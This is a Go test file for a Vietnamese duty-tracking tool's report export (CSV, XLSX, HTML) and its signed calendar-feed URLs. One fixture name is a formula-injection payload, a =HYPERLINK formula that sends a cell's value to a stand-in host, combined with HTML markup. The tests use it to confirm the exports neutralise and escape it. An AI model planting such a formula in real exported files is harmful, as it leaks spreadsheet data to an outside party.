package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	ics "github.com/arran4/golang-ical"
	"github.com/rs/zerolog"
	"github.com/xuri/excelize/v2"

	"github.com/ninhthuan/nhachan/internal/duty"
	"github.com/ninhthuan/nhachan/internal/httpui"
	"github.com/ninhthuan/nhachan/internal/model"
	"github.com/ninhthuan/nhachan/internal/notify"
	"github.com/ninhthuan/nhachan/internal/report"
	"github.com/ninhthuan/nhachan/internal/schedule"
	"github.com/ninhthuan/nhachan/internal/signlink"
)

// reportHostileName is co-quan-001's name in the report tests: a formula
// a spreadsheet would run, with markup for the HTML page.
const reportHostileName = `=HYPERLINK("http://x.example/?"&A1,"Bấm <b>vào</b>")`

// reportFixture is a generated configuration and a database seeded through
// the store, as runCLI's clock (26/11/2026) sees it:
//
//	co-quan-001 (hostile name): I.1 on time, I.2 five days late
//	co-quan-002:                I.1 waived, I.2 overdue since 30/9 (57 days)
//	so-noi-vu:                  I.3 due 15/12, not yet due; I.1 of 2025 on time
type reportFixture struct {
	cfg *procConfig
	ids map[string]int64
}

func newReportFixture(t *testing.T) *reportFixture {
	t.Helper()
	c := writeProcConfigAt(t, 2, "", schedule.NewDate(2025, 1, 1),
		schedule.NewDate(2026, 3, 31), schedule.NewDate(2026, 6, 30), schedule.NewDate(2026, 12, 15))
	dir, err := os.ReadFile(c.Directory)
	if err != nil {
		t.Fatal(err)
	}
	quoted := `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(reportHostileName) + `"`
	writeFile(t, c.Directory, strings.Replace(string(dir), `"Cơ quan thử nghiệm số 1"`, quoted, 1))

	now := func() time.Time { return time.Date(2026, 11, 20, 9, 0, 0, 0, defaultLocation()) }
	store, err := openStore(c.DB, now)
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	occ := func(task, agency, due string) duty.Occurrence {
		d, err := schedule.ParseDate(due)
		if err != nil {
			t.Fatal(err)
		}
		return duty.Occurrence{ScheduleID: "KH-THU-NGHIEM", TaskID: task, Period: due[:4], AgencyID: agency,
			NamedAgencyID: agency, Role: model.RoleLead, Due: d, EffectiveDue: d, State: duty.StateOpen}
	}
	names := []string{"ontime", "late", "waived", "overdue", "notyet", "lastyear"}
	rows := []duty.Occurrence{
		occ("I.1", "co-quan-001", "2026-03-31"), occ("I.2", "co-quan-001", "2026-06-30"),
		occ("I.1", "co-quan-002", "2026-03-31"), occ("I.2", "co-quan-002", "2026-09-30"),
		occ("I.3", "so-noi-vu", "2026-12-15"), occ("I.1", "so-noi-vu", "2025-03-31"),
	}
	ctx := context.Background()
	if _, err := store.UpsertOccurrences(ctx, rows); err != nil {
		t.Fatal(err)
	}
	f := &reportFixture{cfg: c, ids: map[string]int64{}}
	for i, n := range names {
		f.ids[n] = rows[i].ID
	}
	submit := func(name, on string) {
		d, _ := schedule.ParseDate(on)
		if err := store.RecordSubmission(ctx, duty.Submission{OccurrenceID: f.ids[name], Ref: "1/BC", SubmittedOn: d,
			RecordedBy: "test", Via: duty.ViaCLI}); err != nil {
			t.Fatal(err)
		}
	}
	submit("ontime", "2026-03-30")
	submit("late", "2026-07-05")
	submit("lastyear", "2025-03-28")
	if err := store.Waive(ctx, f.ids["waived"], "Không phát sinh", "test"); err != nil {
		t.Fatal(err)
	}
	return f
}

// cli runs nhachan with the fixture's configuration.
func (f *reportFixture) cli(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	return runCLI(t, append(args, "--config", f.cfg.File)...)
}

// wantReportRows are the 2026 rows after the name: Headers[1:] joined by |.
var wantReportRows = map[string]string{
	"'" + reportHostileName:     "2|1|1|5|0|0|50.0%|0|0",
	"Cơ quan thử nghiệm số 2":   "2|0|0|57|1|1|0.0%|0|0",
	"Sở Nội vụ tỉnh Thử nghiệm": "0|0|0|0|0|0||1|0",
}

func TestReportCSV(t *testing.T) {
	f := newReportFixture(t)
	code, out, errs := f.cli(t, "report", "--year", "2026", "--format", "csv")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	body, ok := strings.CutPrefix(out, "\uFEFF")
	if !ok {
		t.Error("no byte order mark")
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, out)
	}
	if strings.Join(recs[0], "|") != strings.Join(report.Headers[:], "|") {
		t.Errorf("header = %q", recs[0])
	}
	if len(recs) != 1+len(wantReportRows) {
		t.Fatalf("%d records, want %d:\n%s", len(recs), 1+len(wantReportRows), out)
	}
	for _, r := range recs[1:] {
		want, ok := wantReportRows[r[0]]
		if !ok {
			t.Errorf("unexpected row %q", r)
			continue
		}
		if got := strings.Join(r[1:], "|"); got != want {
			t.Errorf("%s: %s, want %s", r[0], got, want)
		}
		if strings.ContainsRune("=+-@", rune(r[0][0])) {
			t.Errorf("name %q starts with a formula character", r[0])
		}
	}
}

func TestReportXLSXOut(t *testing.T) {
	f := newReportFixture(t)
	dir := t.TempDir()
	out := filepath.Join(dir, "bao-cao.xlsx")
	if err := os.WriteFile(out, []byte("an older report"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, stdout, errs := f.cli(t, "report", "--year", "2026", "--format", "xlsx", "--out", out)
	if code != 0 || stdout != "" {
		t.Fatalf("exit %d, stdout %q: %s", code, stdout, errs)
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 1 {
		t.Errorf("the folder holds %d files, want the report only (a temporary file left?)", len(entries))
	}
	st, err := os.Stat(out)
	if err != nil || st.Mode().Perm() != 0o644 {
		t.Errorf("stat %s: %v %v", out, st, err)
	}
	xf, err := excelize.OpenFile(out)
	if err != nil {
		t.Fatalf("not a valid workbook: %v", err)
	}
	defer xf.Close()
	got, err := xf.GetRows(report.SheetName(2026))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1+len(wantReportRows) {
		t.Fatalf("%d rows, want %d: %q", len(got), 1+len(wantReportRows), got)
	}
	for i, r := range got[1:] {
		if _, ok := wantReportRows[r[0]]; !ok {
			t.Errorf("unexpected name %q", r[0])
		}
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		if formula, _ := xf.GetCellFormula(report.SheetName(2026), cell); formula != "" {
			t.Errorf("%s holds the formula %q", cell, formula)
		}
	}
}

func TestReportHTML(t *testing.T) {
	f := newReportFixture(t)
	code, out, errs := f.cli(t, "report", "--format", "html", "--year", "2026")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	if !strings.HasPrefix(out, "<!DOCTYPE html>") || !strings.Contains(out, "Tình hình thực hiện nhiệm vụ năm 2026") {
		t.Errorf("not the standalone page:\n%s", out)
	}
	if strings.Contains(out, "<b>vào</b>") || !strings.Contains(out, "&lt;b&gt;vào&lt;/b&gt;") {
		t.Error("the hostile name is not escaped")
	}
	if strings.Count(out, "<tr") != 1+len(wantReportRows) {
		t.Errorf("%d <tr>, want %d", strings.Count(out, "<tr"), 1+len(wantReportRows))
	}
}

func TestReportEmptyYear(t *testing.T) {
	f := newReportFixture(t)
	code, out, errs := f.cli(t, "report", "--year", "2030", "--format", "csv")
	if code != 0 || strings.Count(out, "\r\n") != 1 {
		t.Fatalf("exit %d, want the header only:\n%s%s", code, out, errs)
	}
	if !strings.Contains(errs, "Năm 2030 không có nghĩa vụ nào: dịch vụ chưa lập") {
		t.Errorf("a future year's empty report is not explained: %q", errs)
	}
	// A year before the tracking start says so.
	ctx := context.Background()
	store, err := openStore(f.cfg.DB, time.Now)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := store.InitMeta(ctx, "tracking_start", "2025-01-01"); err != nil {
		t.Fatal(err)
	}
	store.Close()
	_, _, errs = f.cli(t, "report", "--year", "2019", "--format", "html", "--out", filepath.Join(t.TempDir(), "r.html"))
	if !strings.Contains(errs, "hệ thống bắt đầu theo dõi từ ngày 01/01/2025") {
		t.Errorf("a year before the tracking start is not explained: %q", errs)
	}
	if _, _, errs = f.cli(t, "report", "--year", "2026", "--format", "csv"); errs != "" {
		t.Errorf("a year with duties has a note: %q", errs)
	}
}

// An XLSX workbook is never written to a terminal; to a pipe or a file it
// is.
func TestReportXLSXNotToATerminal(t *testing.T) {
	f := newReportFixture(t)
	tty, closeTTY := openPTY(t)
	defer closeTTY()
	var errb strings.Builder
	code := run(env{stdout: tty, stderr: &errb, now: time.Now}, []string{"report", "--year", "2026", "--format", "xlsx", "--config", f.cfg.File})
	if code != exitConfig || !strings.Contains(errb.String(), "không in ra màn hình được; dùng --out bao-cao-2026.xlsx") {
		t.Errorf("xlsx to a terminal: exit %d, %q", code, errb.String())
	}
	code, out, errs := f.cli(t, "report", "--year", "2026", "--format", "xlsx")
	if code != 0 || !strings.HasPrefix(out, "PK") {
		t.Errorf("xlsx to a pipe: exit %d, %q", code, errs)
	}
}

func TestReportErrors(t *testing.T) {
	f := newReportFixture(t)
	for _, args := range [][]string{
		{"report"},
		{"report", "--year", "2026"},
		{"report", "--format", "csv"},
		{"report", "--year", "2026", "--format", "pdf"},
		{"report", "--year", "abc", "--format", "csv"},
		{"report", "--year", "99999", "--format", "csv"},
		{"report", "--year", "2026", "--format", "csv", "extra"},
		{"report", "--year", "2026", "--format", "csv", "--bogus"},
	} {
		if code, _, _ := f.cli(t, args...); code != exitConfig {
			t.Errorf("%v: exit %d, want %d", args, code, exitConfig)
		}
	}
	missing := filepath.Join(t.TempDir(), "khong-co.db")
	code, _, errs := f.cli(t, "report", "--year", "2026", "--format", "csv", "--db", missing)
	if code != exitFail || !strings.Contains(errs, "không có cơ sở dữ liệu") {
		t.Errorf("a missing database: exit %d: %s", code, errs)
	}
	if _, err := os.Stat(missing); err == nil {
		t.Error("report created the missing database")
	}
	code, _, _ = f.cli(t, "report", "--year", "2026", "--format", "csv", "--out", filepath.Join(t.TempDir(), "khong-co", "r.csv"))
	if code != exitFail {
		t.Errorf("--out into a missing folder: exit %d, want %d", code, exitFail)
	}
}

// withLinks adds a public URL and a link key to the fixture's
// configuration and returns the signer that verifies with that key.
func (f *reportFixture) withLinks(t *testing.T) *signlink.Signer {
	t.Helper()
	key, err := signlink.GenerateKey("k2026", bytes.NewReader(bytes.Repeat([]byte{7}, signlink.MinSecretLen)))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(f.cfg.Dir, "link.key"), signlink.FormatKey(key), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg, err := os.ReadFile(f.cfg.File)
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, f.cfg.File, string(cfg)+"public_url: https://nhachan.t.example/\nlinks:\n  key_file: link.key\n")
	s, err := signlink.NewSigner(key)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestCalendarURL(t *testing.T) {
	f := newReportFixture(t)
	signer := f.withLinks(t)
	code, out, errs := f.cli(t, "calendar-url", "--agency", "co-quan-002")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	u, err := url.Parse(strings.TrimSpace(out))
	if err != nil || u.Scheme != "https" || u.Host != "nhachan.t.example" || !strings.HasPrefix(u.Path, "/lich/") || !strings.HasSuffix(u.Path, ".ics") {
		t.Fatalf("URL %q (%v)", out, err)
	}
	token := strings.TrimSuffix(strings.TrimPrefix(u.Path, "/lich/"), ".ics")
	now := time.Date(2026, 11, 26, 9, 0, 0, 0, defaultLocation())
	c, err := signer.Verify(token, now)
	if err != nil {
		t.Fatalf("the token does not verify: %v", err)
	}
	if c.Action != signlink.ActionCalendar || c.Agency != "co-quan-002" || c.Occurrence != 0 {
		t.Errorf("claims %+v", c)
	}
	if want := now.Add(730 * 24 * time.Hour); !c.Expires.Equal(want) {
		t.Errorf("expires %s, want %s", c.Expires, want)
	}

	// The URL works against the web server over the same database.
	code, out, _ = f.cli(t, "calendar-url", "--agency", "co-quan-002", "--valid-days", "30", "--public-url", "http://127.0.0.1:8080/")
	if code != 0 || !strings.HasPrefix(out, "http://127.0.0.1:8080/lich/") {
		t.Fatalf("--public-url: exit %d: %s", code, out)
	}
	feed := f.fetchFeed(t, signer, strings.TrimPrefix(strings.TrimSpace(out), "http://127.0.0.1:8080"), now)
	cal, err := ics.ParseCalendar(strings.NewReader(feed))
	if err != nil {
		t.Fatalf("the feed does not parse: %v\n%s", err, feed)
	}
	uids := map[string]bool{}
	for _, e := range cal.Events() {
		uids[e.Id()] = true
	}
	want := map[string]bool{report.EventUID(f.ids["waived"]): true, report.EventUID(f.ids["overdue"]): true}
	if len(uids) != len(want) || len(cal.Events()) != len(want) {
		t.Errorf("events %v, want %v", uids, want)
	}
	for uid := range want {
		if !uids[uid] {
			t.Errorf("no event %s", uid)
		}
	}
}

// fetchFeed serves path through the web handler over the fixture's
// database and configuration, and returns the body of a 200.
func (f *reportFixture) fetchFeed(t *testing.T, signer *signlink.Signer, path string, now time.Time) string {
	t.Helper()
	cfg, err := loadConfig(env{stderr: &bytes.Buffer{}}, f.cfg.File, true)
	if err != nil {
		t.Fatal(err)
	}
	store, err := openStore(f.cfg.DB, func() time.Time { return now })
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	setup := notify.Setup{Planner: cfg.Planner(), Location: cfg.Location}
	rt := &httpui.Runtime{Setup: setup, Links: signer}
	srv := &httpui.Server{Store: store, Runtime: func() *httpui.Runtime { return rt }, Now: func() time.Time { return now },
		Log: zerolog.Nop()}
	rec := httptest.NewRecorder()
	srv.Handler().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, path, nil))
	if rec.Code != http.StatusOK || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/calendar") {
		t.Fatalf("GET %s = %d %q:\n%s", path, rec.Code, rec.Header().Get("Content-Type"), rec.Body)
	}
	return rec.Body.String()
}

func TestCalendarURLErrors(t *testing.T) {
	f := newReportFixture(t)
	// Links are not configured yet.
	code, _, errs := f.cli(t, "calendar-url", "--agency", "co-quan-001")
	if code != exitConfig || !strings.Contains(errs, "public_url") {
		t.Errorf("no public URL: exit %d: %s", code, errs)
	}
	code, _, errs = f.cli(t, "calendar-url", "--agency", "co-quan-001", "--public-url", "https://x.example")
	if code != exitConfig || !strings.Contains(errs, "links.key_file") {
		t.Errorf("no key file: exit %d: %s", code, errs)
	}
	f.withLinks(t)
	for _, args := range [][]string{
		{"calendar-url"},
		{"calendar-url", "--agency", "khong-co"},
		{"calendar-url", "--agency", "co-quan-001", "--valid-days", "0"},
		{"calendar-url", "--agency", "co-quan-001", "extra"},
	} {
		if code, _, _ := f.cli(t, args...); code != exitConfig {
			t.Errorf("%v: exit %d, want %d", args, code, exitConfig)
		}
	}
	if err := os.Chmod(filepath.Join(f.cfg.Dir, "link.key"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, errs = f.cli(t, "calendar-url", "--agency", "co-quan-001")
	if code != exitConfig || !strings.Contains(errs, "links.key_file") {
		t.Errorf("a key file others can read: exit %d: %s", code, errs)
	}
}
